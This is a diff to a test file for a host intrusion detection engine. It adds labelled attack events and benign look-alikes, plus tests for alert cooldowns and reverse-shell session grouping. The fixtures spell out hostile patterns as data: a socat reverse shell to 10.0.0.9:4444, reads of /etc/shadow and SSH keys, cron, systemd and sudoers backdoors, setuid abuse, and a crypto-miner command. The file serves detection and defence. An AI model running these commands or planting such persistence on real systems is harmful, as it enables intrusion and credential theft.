@@ -14,9 +14,23 @@ const attacks: [string, GuardEvent][] = [
   ['shell-spawned-by-network-service', event({ type: 'exec', proc: proc({ pid: 101, ppid: 100, name: 'sh', exe: '/bin/sh', argv: ['sh', '-c', 'id'] }), ancestors: [nginx] })],
   ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 102, ppid: 90, name: 'bash', stdinNet: true, stdoutNet: true }), ancestors: [proc({ pid: 90, name: 'python3' })] })],
   ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 103, ppid: 91, name: 'sh', parentStdioNet: true }), ancestors: [proc({ pid: 91, name: 'python3' })] })],
+  ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 131, ppid: 92, name: 'bash', argv: ['bash', '-li'] }), ancestors: [proc({ pid: 92, name: 'socat', argv: ['socat', 'exec:bash -li,pty,stderr', 'tcp:10.0.0.9:4444'] })] })],
   ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 104, name: 'cat' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
   ['read-ssh-private-key', event({ type: 'open', proc: proc({ pid: 105, name: 'python3', uid: 1001 }), file: { path: '/home/alice/.ssh/id_ed25519', flags: 0, write: false } })],
-  ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/cron.d/evil', flags: 0o1101, write: true } })],
+  ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/ld.so.preload', flags: 0o1101, write: true } })],
+  ['persistence-cron-job', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/cron.d/evil', flags: 0o1101, write: true } })],
+  ['persistence-cron-job', event({ type: 'open', proc: proc({ pid: 120, name: 'crontab', uid: 1000 }), file: { path: '/var/spool/cron/crontabs/tmp.Xa1', flags: 0o302, write: true } })],
+  ['persistence-systemd-unit', event({ type: 'open', proc: proc({ pid: 121, name: 'bash' }), file: { path: '/etc/systemd/system/updater.service', flags: 0o1101, write: true } })],
+  ['persistence-systemd-unit', event({ type: 'open', proc: proc({ pid: 122, name: 'python3', uid: 1000 }), file: { path: '/home/bob/.config/systemd/user/agent.service', flags: 0o1101, write: true } })],
+  ['ssh-authorized-keys-modified', event({ type: 'open', proc: proc({ pid: 123, name: 'bash' }), file: { path: '/root/.ssh/authorized_keys', flags: 0o2101, write: true } })],
+  ['account-or-sudoers-modified', event({ type: 'open', proc: proc({ pid: 124, name: 'tee' }), file: { path: '/etc/sudoers.d/99-backdoor', flags: 0o1101, write: true } })],
+  ['account-or-sudoers-modified', event({ type: 'open', proc: proc({ pid: 125, name: 'python3' }), file: { path: '/etc/passwd', flags: 0o2001, write: true } })],
+  ['unexpected-setuid-root-exec', event({ type: 'exec', proc: proc({ pid: 126, ppid: 127, name: 'bash', exe: '/var/tmp/.b', uid: 65534, euid: 0, argv: ['/var/tmp/.b', '-p'] }), ancestors: [proc({ pid: 127, name: 'sh', uid: 65534 })] })],
+  ['setuid-bit-set', event({ type: 'chmod', proc: proc({ pid: 133, name: 'chmod', argv: ['chmod', 'u+s', '/var/tmp/.b'] }), file: { path: '/var/tmp/.b', flags: 0, write: false, mode: 0o104755, isDir: false } })],
+  ['exec-without-argv', event({ type: 'exec', proc: proc({ pid: 132, name: 'pkexec', exe: '/usr/bin/pkexec', uid: 1000, euid: 0, argv: [] }) })],
+  ['read-sensitive-file', event({ type: 'open', proc: proc({ pid: 128, name: 'cat' }), file: { path: '/etc/sudoers', flags: 0, write: false } })],
+  ['read-ssh-private-key', event({ type: 'open', proc: proc({ pid: 129, name: 'tar' }), file: { path: '/root/.ssh/deploy_key', flags: 0, write: false } })],
+  ['crypto-miner-command', event({ type: 'exec', proc: proc({ pid: 130, name: 'kworkerd', exe: '/tmp/kworkerd', argv: ['/tmp/kworkerd', '-o', 'stratum+tcp://pool.example:3333', '-u', 'x'] }) })],
   ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 107, name: 'cp' }), file: { path: '/usr/bin/ls', flags: 1, write: true } })],
   ['ptrace-other-user', event({ type: 'ptrace', proc: bash, target: proc({ pid: 600, name: 'sshd', uid: 0 }) })],
   ['kernel-module-load', event({ type: 'module', proc: proc({ pid: 108, name: 'insmod' }), module: { name: 'rootkit', how: 'finit_module' } })],
@@ -35,6 +49,15 @@ const benign: [string, GuardEvent][] = [
   ['gdb on own process', event({ type: 'ptrace', proc: bash, target: proc({ pid: 601, name: 'app', uid: 1000 }) })],
   ['listen on a known port', event({ type: 'listen', proc: nginx, net: { ipVersion: 4, laddr: '0.0.0.0', lport: 80, raddr: '', rport: 0, portKnown: true } })],
   ['listen on loopback', event({ type: 'listen', proc: proc({ pid: 210, name: 'node' }), net: { ipVersion: 4, laddr: '127.0.0.1', lport: 45678, raddr: '', rport: 0, portKnown: false } })],
+  ['sudo runs as root for a user', event({ type: 'exec', proc: proc({ pid: 212, ppid: 201, name: 'sudo', exe: '/usr/bin/sudo', uid: 1000, euid: 0 }) })],
+  ['ssh-keygen writes a new key', event({ type: 'open', proc: proc({ pid: 213, name: 'ssh-keygen' }), file: { path: '/root/.ssh/id_ed25519', flags: 0o1101, write: true } })],
+  ['ssh reads known_hosts', event({ type: 'open', proc: proc({ pid: 214, name: 'python3' }), file: { path: '/root/.ssh/known_hosts', flags: 0, write: false } })],
+  ['useradd writes /etc/passwd', event({ type: 'open', proc: proc({ pid: 215, name: 'useradd' }), file: { path: '/etc/passwd-', flags: 0o1101, write: true } })],
+  ['apt installs a unit', event({ type: 'open', proc: proc({ pid: 216, name: 'dpkg' }), file: { path: '/lib/systemd/system/nginx.service.dpkg-new', flags: 0o1101, write: true } })],
+  ['bash writes its history', event({ type: 'open', proc: proc({ pid: 217, name: 'bash' }), file: { path: '/root/.bash_history', flags: 0o2101, write: true } })],
+  ['node service runs a shell while not listening', event({ type: 'exec', proc: proc({ pid: 218, ppid: 219, name: 'sh' }), ancestors: [proc({ pid: 219, name: 'node', exe: '/usr/bin/node' })] })],
+  ['a set-gid shared directory', event({ type: 'chmod', proc: proc({ pid: 220, name: 'chmod' }), file: { path: '/srv/shared', flags: 0, write: false, mode: 0o2775, isDir: true } })],
+  ['dpkg sets a set-uid bit', event({ type: 'chmod', proc: proc({ pid: 221, name: 'dpkg' }), file: { path: '/usr/bin/sudo', flags: 0, write: false, mode: 0o4755, isDir: false } })],
   ['busy compiler with an https fetch', event({ type: 'cpu', proc: proc({ pid: 211, name: 'cc1' }), cpu: { ratio: 1, sustainedSeconds: 60, remotePorts: [443] } })],
 ];
 
@@ -60,12 +83,37 @@ describe('starter rules', () => {
 
   it('applies the cooldown per rule, executable and parent', () => {
     const d = new Detector(rules);
-    const e = attacks[3]![1];
+    const e = attacks.find(([r]) => r === 'read-shadow-file')![1];
     expect(d.evaluate(e)).toHaveLength(1);
     expect(d.evaluate({ ...e, time: e.time + 1000 })).toHaveLength(0);
     expect(d.evaluate({ ...e, time: e.time + 61_000 })).toHaveLength(1);
     expect(d.stats.cooledDown).toBe(1);
     expect(d.evaluate({ ...e, time: e.time + 62_000, proc: { ...e.proc, ppid: 999 } })).toHaveLength(1);
+  });
+});
+
+describe('reverse shells: one alert per socket session', () => {
+  const rules = parseRules([starter]);
+  // outer bash (not on the network) → bash -i with stdio on a socket → the shells the attacker starts inside it
+  const outer = proc({ pid: 700, ppid: 1, name: 'bash' });
+  const rs = proc({ pid: 701, ppid: 700, name: 'bash', stdinNet: true, stdoutNet: true, argv: ['bash', '-i'] });
+  const inner = proc({ pid: 702, ppid: 701, name: 'sh', stdinNet: true, stdoutNet: true });
+  const viaPty = proc({ pid: 704, ppid: 703, name: 'bash', parentStdioNet: true });
+  const python = proc({ pid: 703, ppid: 702, name: 'python3', stdinNet: true, stdoutNet: true });
+
+  it('a nested shell in the same session raises nothing new; a second session does', () => {
+    const d = new Detector(rules);
+    expect(d.evaluate(event({ type: 'exec', proc: rs, ancestors: [outer] })).map((a) => a.rule)).toEqual(['reverse-shell']);
+    expect(d.evaluate(event({ type: 'exec', proc: inner, ancestors: [rs, outer], time: 1_005_000 }))).toEqual([]);
+    expect(d.evaluate(event({ type: 'exec', proc: viaPty, ancestors: [python, inner, rs, outer], time: 1_010_000 }))).toEqual([]);
+    const other = proc({ pid: 801, ppid: 700, name: 'bash', stdinNet: true });
+    expect(d.evaluate(event({ type: 'exec', proc: other, ancestors: [outer], time: 1_011_000 }))).toHaveLength(1);
+  });
+
+  it('a bad cooldownBy field is an error with a suggestion', () => {
+    const r = checkRules([{ text: 'apiVersion: ainka.dev/v1\nkind: DetectionRules\nname: t\nrules:\n  - name: r\n    when: event == exec\n    cooldownBy: [proc.net_sesion]\n', file: 'c.yaml' }]);
+    expect(r.ruleSet).toBeUndefined();
+    expect(r.issues[0]).toMatchObject({ file: 'c.yaml', path: 'rules[0].cooldownBy[0]', message: "'proc.net_sesion' is not a field; did you mean 'proc.net_session'?" });
   });
 });
 
